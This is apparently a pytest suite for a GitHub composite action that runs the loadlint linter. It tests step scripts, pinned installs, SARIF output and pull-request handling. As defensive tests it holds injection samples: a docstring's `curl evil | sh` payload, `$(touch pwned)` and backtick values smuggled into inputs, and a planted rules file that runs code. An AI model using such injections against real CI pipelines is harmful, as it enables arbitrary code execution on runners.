"""The GitHub action (action.yml): its shape, and its shell steps run here as the runner would run them.

`run_step` runs one `run:` step as a runner does: its `env:` expressions evaluated from the inputs, the `github`
context and the outputs of earlier steps, the script run with `bash -e -o pipefail`, `$GITHUB_OUTPUT`,
`$GITHUB_STEP_SUMMARY` and `$RUNNER_TEMP` pointing at files and folders of the test.
"""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys
import tomllib
from pathlib import Path

import pytest
import yaml
from packaging.requirements import Requirement

from linter import github_action
from tests.fixture_cases import REPO
from tests.project_builder import write_files
from tests.sarif_schema import assert_valid_sarif

ACTION = yaml.safe_load((REPO / "action.yml").read_text(encoding="utf-8"))
STEPS = {step["name"]: step for step in ACTION["runs"]["steps"]}
EXPRESSION = re.compile(r"\$\{\{\s*(.*?)\s*\}\}")
INPUTS = {"paths", "working-directory", "config", "category", "fail-on", "baseline", "diff", "args", "upload"}
SECRET = "const jwt = require('jsonwebtoken');\nconst secret = process.env.JWT_SECRET || 'dev-secret';\nmodule.exports = (user) => jwt.sign(user, secret, { expiresIn: '1h' });\n"
NO_EXPIRY = (
    "const jwt = require('jsonwebtoken');\nfunction signAccessToken(user) {\n  return jwt.sign({ sub: user.id }, process.env.JWT_SECRET);\n}\n"
    "module.exports = { signAccessToken };\n"
)


class Runner:
    """One job's worth of runner state: step outputs, the summary file, $RUNNER_TEMP."""

    def __init__(self, workspace: Path, python: str = sys.executable) -> None:
        self.workspace = workspace
        self.temp = workspace.parent / "runner-temp"
        self.temp.mkdir(exist_ok=True)
        self.summary = workspace.parent / "step-summary.md"
        self.outputs: dict[str, dict[str, str]] = {"install": {"python": python}}
        self.context = {
            "github.event_name": "push",
            "github.repository": "owner/shop",
            "github.event.pull_request.base.sha": "",
            "github.event.pull_request.head.repo.full_name": "",
            "github.action_path": str(REPO),
            "steps.upload.outcome": "skipped",
        }

    def run(self, name: str, inputs: dict[str, str] | None = None, **variables: str) -> subprocess.CompletedProcess:
        step = STEPS[name]
        values = {
            **{f"inputs.{key}": spec.get("default", "") for key, spec in ACTION["inputs"].items()},
            **{f"inputs.{key}": value for key, value in (inputs or {}).items()},
            **{f"steps.{step_id}.outputs.{key}": value for step_id, outputs in self.outputs.items() for key, value in outputs.items()},
            **self.context,
        }
        output_file = self.workspace.parent / "github-output"
        output_file.write_text("", encoding="utf-8")
        env = {k: v for k, v in os.environ.items() if k not in ("PYTHONDONTWRITEBYTECODE", "PYTHONPATH")}
        env.update(GITHUB_OUTPUT=str(output_file), GITHUB_STEP_SUMMARY=str(self.summary), RUNNER_TEMP=str(self.temp), RUNNER_OS="Linux")
        for key, value in step.get("env", {}).items():
            env[key] = EXPRESSION.sub(lambda m: values.get(m.group(1), ""), value)
        env.update(variables)
        script = self.workspace.parent / "step.sh"
        script.write_text(step["run"], encoding="utf-8")
        done = subprocess.run(
            ["bash", "--noprofile", "--norc", "-e", "-o", "pipefail", str(script)],
            cwd=self.workspace, env=env, capture_output=True, text=True, timeout=300,
        )
        outputs = dict(line.split("=", 1) for line in output_file.read_text(encoding="utf-8").splitlines() if "=" in line)
        if "id" in step:
            self.outputs[step["id"]] = outputs
        return done

    def check(self, inputs: dict[str, str] | None = None, **variables: str) -> subprocess.CompletedProcess:
        return self.run("Run loadlint", inputs, **variables)

    def finish(self, upload_outcome: str) -> subprocess.CompletedProcess:
        self.context["steps.upload.outcome"] = upload_outcome
        return self.run("Report")

    @property
    def checked(self) -> dict[str, str]:
        return self.outputs["check"]

    def log(self, key: str = "report-file") -> dict:
        return json.loads(Path(self.checked[key]).read_text(encoding="utf-8"))


def uris(log: dict) -> set[tuple[str, str]]:
    return {
        (r["locations"][0]["physicalLocation"]["artifactLocation"]["uri"], r["ruleId"]) for r in log["runs"][0]["results"]
    }


@pytest.fixture
def workspace(tmp_path):
    """A checkout with two apps, one with an error finding; `linter/` shadows loadlint's package name."""
    root = tmp_path / "workspace"
    write_files(
        root,
        {
            ".git/HEAD": "ref: refs/heads/main\n",
            "linter/__init__.py": "raise SystemExit('imported the checkout, not loadlint')\n",
            "api/package.json": '{"name": "api", "dependencies": {"jsonwebtoken": "^9.0.0"}}',
            "api/src/auth.js": SECRET,
            "web/package.json": '{"name": "web"}',
            "web/index.js": "export const answer = 42;\n",
        },
    )
    return root


@pytest.fixture
def runner(workspace):
    return Runner(workspace)


# the action's shape ---------------------------------------------------------------------------------------------


def test_is_a_composite_action_with_the_documented_inputs_and_outputs():
    assert ACTION["runs"]["using"] == "composite"
    assert set(ACTION["inputs"]) == INPUTS
    assert {"sarif-file", "findings", "errors", "warnings", "notes"} <= set(ACTION["outputs"])
    names = list(STEPS)
    assert names[0] == "Check the runner"
    assert names.index("Run loadlint") < names.index("Upload to code scanning") < names.index("Report")
    upload = STEPS["Upload to code scanning"]
    assert upload["uses"].startswith("github/codeql-action/upload-sarif@")
    assert upload["if"] == "steps.check.outputs.upload == 'true'" and upload["continue-on-error"] is True
    assert STEPS["Report"]["env"]["UPLOAD_OUTCOME"] == "${{ steps.upload.outcome }}"


def test_inputs_reach_scripts_only_through_the_environment():
    """An expression inside `run:` is pasted into the script before bash reads it: a category of
    `"; curl evil | sh; "` would run. Through `env:` it stays a string."""
    for step in ACTION["runs"]["steps"]:
        if "run" in step:
            assert not EXPRESSION.search(step["run"]), step["name"]
            assert step["shell"] == "bash"


def test_the_action_never_loads_rules_from_the_checkout():
    assert "--trust-config-rules" not in "".join(step.get("run", "") for step in ACTION["runs"]["steps"])
    assert "--trust-config-rules" in github_action.REFUSED_ARGS and "--rules-dir" in github_action.REFUSED_ARGS


def test_fail_on_takes_the_values_of_the_cli_with_the_same_default():
    from linter.cli import LEVEL_CHOICES

    assert ACTION["inputs"]["fail-on"]["default"] == ""  # the CLI's: the config's fail-on, else warning
    assert tuple(LEVEL_CHOICES.choices) == github_action.FAIL_ON_LEVELS


# Windows -------------------------------------------------------------------------------------------------------


def test_a_windows_runner_gets_a_clear_error(runner):
    refused = runner.run("Check the runner", RUNNER_OS="Windows")
    assert refused.returncode == 1
    assert refused.stdout.startswith("::error title=loadlint::The loadlint action runs on Linux and macOS runners")
    assert runner.run("Check the runner", RUNNER_OS="macOS").returncode == 0


# the install ---------------------------------------------------------------------------------------------------


def test_the_constraints_pin_every_dependency_within_pyproject():
    pins = {}
    for line in (REPO / "action-constraints.txt").read_text(encoding="utf-8").splitlines():
        if line.strip() and not line.startswith("#"):
            requirement = Requirement(line)
            (specifier,) = requirement.specifier
            assert specifier.operator == "==", line
            pins[requirement.name.lower().replace("_", "-")] = specifier.version
    project = tomllib.loads((REPO / "pyproject.toml").read_text(encoding="utf-8"))
    for dependency in [*project["project"]["dependencies"], *project["build-system"]["requires"]]:
        requirement = Requirement(dependency)
        name = requirement.name.lower().replace("_", "-")
        assert name in pins and requirement.specifier.contains(pins[name]), dependency


def test_the_install_is_pinned_and_reused_from_the_cache(tmp_path, workspace):
    """The real install: a virtual environment of this checkout with the pinned versions; a second run (the
    cache restored it) installs nothing."""
    runner = Runner(workspace)
    runner.outputs["python"] = {"python-path": sys.executable}
    named = runner.run("Name the install")
    assert named.returncode == 0, named.stderr
    venv = runner.outputs["venv"]
    assert venv["path"] == str(runner.temp / "loadlint-venv") and re.fullmatch(r"loadlint-Linux-[0-9a-f]{32}", venv["key"])
    assert runner.run("Name the install").returncode == 0 and runner.outputs["venv"] == venv  # stable
    installed = runner.run("Install loadlint")
    assert installed.returncode == 0, installed.stderr
    python = runner.outputs["install"]["python"]
    assert python == f"{venv['path']}/bin/python"
    frozen = subprocess.run([python, "-m", "pip", "freeze"], capture_output=True, text=True, check=True).stdout
    versions = dict(line.split("==") for line in frozen.splitlines() if "==" in line)
    pins = dict(
        line.split("==") for line in (REPO / "action-constraints.txt").read_text(encoding="utf-8").splitlines() if "==" in line
    )
    normal = lambda name: name.lower().replace("_", "-")  # noqa: E731
    pinned = {normal(name): version for name, version in pins.items()}
    assert versions and all(pinned[normal(name)] == version for name, version in versions.items())
    again = runner.run("Install loadlint")
    assert again.returncode == 0 and "pip" not in again.stderr

    runner = Runner(workspace, python=python)
    assert runner.check().returncode == 0
    assert uris(runner.log()) == {("api/src/auth.js", "auth/secret-fallback")}


# running loadlint ------------------------------------------------------------------------------------------------


def test_the_run_writes_sarif_to_runner_temp_for_the_given_paths_and_category(runner):
    category = 'api "$(touch pwned)" `touch pwned2`'
    done = runner.check({"paths": "api\nweb", "category": category})
    assert done.returncode == 0, done.stderr
    sarif = Path(runner.checked["sarif-file"])
    assert runner.temp in sarif.parents and sarif.name == "loadlint.sarif"
    log = runner.log("sarif-file")
    assert_valid_sarif(log)
    assert log["runs"][0]["automationDetails"] == {"id": category + "/"}
    assert uris(log) == {("api/src/auth.js", "auth/secret-fallback")}
    assert {k: runner.checked[k] for k in ("findings", "errors", "warnings", "notes", "exit-code", "upload")} == {
        "findings": "1", "errors": "1", "warnings": "0", "notes": "0", "exit-code": "1", "upload": "true",
    }
    assert runner.checked["root"] == str(runner.workspace)
    assert not list(runner.workspace.glob("pwned*")) and not (runner.workspace / "loadlint.sarif").exists()


def test_paths_are_taken_literally(runner):
    done = runner.check({"paths": "*"})
    assert done.returncode == 2
    assert "path does not exist: *" in done.stderr
    assert "sarif-file" not in runner.checked


def test_a_config_error_fails_the_step_with_the_cli_s_message(runner):
    write_files(runner.workspace, {".loadlint.toml": "colour = 'red'\n"})
    done = runner.check()
    assert done.returncode == 2 and "loadlint: error: .loadlint.toml: key 'colour': unknown key" in done.stderr


def test_the_run_never_imports_rules_named_by_the_checked_out_config(runner, tmp_path):
    """On a pull request from a fork the checkout is the stranger's: its config must not run code in the job."""
    marker = tmp_path / "marker"
    write_files(
        runner.workspace,
        {
            ".loadlint.toml": 'rules-dir = "tools/rules"\n',
            "tools/rules/x/evil.py": f"import pathlib\npathlib.Path({str(marker)!r}).write_text('ran')\n",
        },
    )
    done = runner.check()
    assert not marker.exists()
    assert done.returncode == 0, done.stderr
    notices = [n["message"]["text"] for n in runner.log()["runs"][0]["invocations"][0]["toolExecutionNotifications"]]
    ignored = "key 'rules-dir' ignored: rules from a config file are loaded only with --trust-config-rules"
    assert f".loadlint.toml: {ignored}" in notices


@pytest.mark.parametrize(
    "args",
    ["--rules-dir tools/rules", "--trust-config-rules", "--rules-dir=tools", "-o out.sarif", "-qoout.sarif", "--format text", "--fix", "x -- y"],
)
def test_args_that_load_rules_or_change_the_output_are_refused(runner, args):
    done = runner.check({"args": args})
    assert done.returncode == 2
    assert done.stdout.startswith("::error title=loadlint::args: ")
    assert "sarif-file" not in runner.checked


def test_args_reach_loadlint_split_as_a_shell_would_never_evaluated(runner):
    write_files(runner.workspace, {"api/src/token.js": NO_EXPIRY})
    done = runner.check({"args": "--ignore 'auth/secret-fallback' --select \"auth\" --jobs 1 $(touch pwned)"})
    assert done.returncode == 2 and "path does not exist: $(touch" in done.stderr  # a word, as written
    assert not list(runner.workspace.glob("pwned*"))
    assert runner.check({"args": "--ignore 'auth/secret-fallback' --select \"auth\" --jobs 1"}).returncode == 0
    assert uris(runner.log()) == {("api/src/token.js", "auth/jwt-no-expiry")}


def test_working_directory_is_where_paths_config_and_baseline_are_read(runner):
    write_files(runner.workspace, {"api/.loadlint.toml": '[levels]\n"auth/secret-fallback" = "note"\n'})
    assert runner.check({"working-directory": "api", "paths": "src"}).returncode == 0
    assert uris(runner.log()) == {("api/src/auth.js", "auth/secret-fallback")}
    assert (runner.checked["notes"], runner.checked["exit-code"], runner.checked["root"]) == ("1", "0", str(runner.workspace))
    missing = runner.check({"working-directory": "nowhere"})
    assert missing.returncode == 2 and "working-directory: nowhere is not a folder" in missing.stdout


def test_fail_on_as_the_cli_takes_it(runner):
    write_files(runner.workspace, {"api/src/auth.js": NO_EXPIRY})  # a warning
    runner.check()
    assert (runner.checked["warnings"], runner.checked["exit-code"]) == ("1", "1")  # the CLI's default: warning
    runner.check({"fail-on": "error"})
    assert runner.checked["exit-code"] == "0"
    write_files(runner.workspace, {".loadlint.toml": 'fail-on = "error"\n'})
    runner.check()
    assert runner.checked["exit-code"] == "0"  # the config's
    runner.check({"fail-on": "note"})
    assert runner.checked["exit-code"] == "1"  # the input wins, as the flag does
    for wrong in ("none", "critical"):
        done = runner.check({"fail-on": wrong})
        assert done.returncode == 2 and f"fail-on: '{wrong}' is not one of error, warning, note" in done.stdout


def test_baseline_input_and_config_key(runner):
    assert runner.check({"args": "--write-baseline api/accepted.json"}).returncode == 2  # the action never writes one
    accepted = runner.workspace / "api/accepted.json"
    lint = [sys.executable, "-m", "linter", "check", str(runner.workspace), "--write-baseline", str(accepted), "--exit-zero"]
    subprocess.run(lint, cwd=REPO, env={**os.environ, "PYTHONPATH": str(REPO)}, check=True, capture_output=True)
    runner.check({"baseline": "api/accepted.json"})
    assert (runner.checked["findings"], runner.checked["exit-code"]) == ("0", "0")
    write_files(runner.workspace, {".loadlint.toml": 'baseline = "api/accepted.json"\n'})
    runner.check()
    assert (runner.checked["findings"], runner.checked["exit-code"]) == ("0", "0")


# pull requests -------------------------------------------------------------------------------------------------


def git(cwd: Path, *args: str) -> str:
    env = {**os.environ, "GIT_AUTHOR_NAME": "t", "GIT_AUTHOR_EMAIL": "t@example.com", "GIT_COMMITTER_NAME": "t",
           "GIT_COMMITTER_EMAIL": "t@example.com", "GIT_CONFIG_GLOBAL": os.devnull, "GIT_CONFIG_NOSYSTEM": "1"}
    return subprocess.run(["git", *args], cwd=cwd, env=env, check=True, capture_output=True, text=True).stdout.strip()


@pytest.fixture
def pull_request(runner):
    """A repository whose base has one finding and whose pull request adds another."""
    (runner.workspace / ".git").rename(runner.workspace.parent / "fake-git")
    git(runner.workspace, "init", "--quiet", "--initial-branch=main")
    git(runner.workspace, "add", "--all")
    git(runner.workspace, "commit", "--quiet", "--message", "base")
    base = git(runner.workspace, "rev-parse", "HEAD")
    write_files(runner.workspace, {"api/src/token.js": NO_EXPIRY})
    git(runner.workspace, "add", "--all")
    git(runner.workspace, "commit", "--quiet", "--message", "pull request")
    runner.context.update({
        "github.event_name": "pull_request",
        "github.event.pull_request.base.sha": base,
        "github.event.pull_request.head.repo.full_name": "owner/shop",
    })
    return runner


def test_a_pull_request_reports_the_lines_it_changed_and_uploads_everything(pull_request):
    runner = pull_request
    assert runner.check().returncode == 0
    assert uris(runner.log()) == {("api/src/token.js", "auth/jwt-no-expiry")}
    assert uris(runner.log("sarif-file")) == {("api/src/token.js", "auth/jwt-no-expiry"), ("api/src/auth.js", "auth/secret-fallback")}
    assert (runner.checked["findings"], runner.checked["warnings"], runner.checked["exit-code"]) == ("1", "1", "1")
    assert runner.checked["diff"] == runner.context["github.event.pull_request.base.sha"]
    for inputs in ({"diff": "none"}, {"upload": "false"}):
        runner.check(inputs)
        expected = 2 if "diff" in inputs else 1
        assert runner.checked["sarif-file"] == runner.checked["report-file"] and len(uris(runner.log())) == expected
    runner.check({"diff": "HEAD~1"})
    assert uris(runner.log()) == {("api/src/token.js", "auth/jwt-no-expiry")}
    runner.context["github.event_name"] = "push"
    runner.check()
    assert len(uris(runner.log())) == 2 and runner.checked["diff"] == ""


def test_a_fork_pull_request_is_not_uploaded_and_gets_annotations_and_a_summary(pull_request):
    runner = pull_request
    runner.context["github.event.pull_request.head.repo.full_name"] = "stranger/shop"
    assert runner.check().returncode == 0
    assert runner.checked["upload"] == "false"
    finished = runner.finish("skipped")
    assert finished.returncode == 1
    lines = finished.stdout.splitlines()
    assert lines[0].startswith("::notice title=loadlint::the findings were not uploaded to code scanning: a pull request from a fork")
    assert lines[1].startswith("::warning file=api/src/token.js,line=3,col=10,endLine=3,endColumn=")
    assert ",title=auth/jwt-no-expiry::" in lines[1]
    summary = runner.summary.read_text(encoding="utf-8")
    assert "**1 finding** (1 warning). Only the lines this pull request changed are reported." in summary
    assert "| `auth/jwt-no-expiry` | 0 | 1 | 0 |" in summary
    assert "The findings were not uploaded to code scanning: a pull request from a fork has no permission" in summary


def test_a_refused_upload_falls_back_to_annotations(runner):
    runner.check()
    finished = runner.finish("failure")
    assert finished.returncode == 1
    assert "code scanning refused the upload (is it enabled for this repository" in finished.stdout
    assert "::error file=api/src/auth.js,line=2,col=" in finished.stdout
    summary = runner.summary.read_text(encoding="utf-8")
    assert "| `auth/secret-fallback` | 1 | 0 | 0 |" in summary and "code scanning refused the upload" in summary


def test_an_uploaded_run_lists_its_findings_and_fails_after_the_upload(runner):
    runner.check()
    finished = runner.finish("success")
    assert finished.returncode == 1
    assert "::" not in finished.stdout
    assert "api/src/auth.js:2  auth/secret-fallback" in finished.stdout
    assert "loadlint: 1 finding; some reach fail-on, so the job fails." in finished.stdout
    assert "Uploaded to code scanning." in runner.summary.read_text(encoding="utf-8")
    runner.check({"paths": "web"})
    clean = runner.finish("success")
    assert clean.returncode == 0 and "loadlint: no findings, none at or above fail-on." in clean.stdout


def test_an_incomplete_run_fails_the_job_with_exit_2(runner, tmp_path):
    log = {"runs": [{"results": [], "invocations": [{"executionSuccessful": False, "toolExecutionNotifications": [{"message": {"text": "rule r failed"}, "level": "error"}]}]}]}
    report = tmp_path / "incomplete.sarif"
    report.write_text(json.dumps(log), encoding="utf-8")
    runner.outputs["check"] = {"report-file": str(report), "exit-code": "2", "upload": "true"}
    finished = runner.finish("success")
    assert finished.returncode == 2 and "the run is incomplete" in finished.stdout
    assert "1 notice (files skipped, notes on the run)" in runner.summary.read_text(encoding="utf-8")


def test_readme_workflow_uses_this_action_with_the_permissions_it_needs():
    readme = (REPO / "README.md").read_text(encoding="utf-8")
    section = readme.split("### GitHub code scanning", 1)[1]
    workflow = yaml.safe_load(re.search(r"```yaml\n(.*?)```", section, re.DOTALL).group(1))
    (job,) = workflow["jobs"].values()
    assert job["permissions"]["security-events"] == "write"
    step = next(step for step in job["steps"] if step.get("uses", "").startswith("OWNER/loadlint@"))
    assert set(step.get("with", {})) <= set(ACTION["inputs"])
